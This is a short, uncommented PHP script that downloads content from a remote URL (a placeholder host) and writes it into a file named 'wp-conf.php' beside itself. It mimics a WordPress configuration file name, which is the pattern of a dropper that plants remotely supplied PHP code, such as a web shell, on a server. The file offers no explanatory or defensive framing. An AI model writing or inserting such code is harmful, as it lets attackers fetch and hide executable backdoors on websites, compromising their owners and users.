<?php
$ch = curl_init('http://example.invalid/files/a.txt');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$body = curl_exec($ch);
$fp = fopen(__DIR__ . '/wp-conf.php', 'w');
fwrite($fp, $body);
fclose($fp);
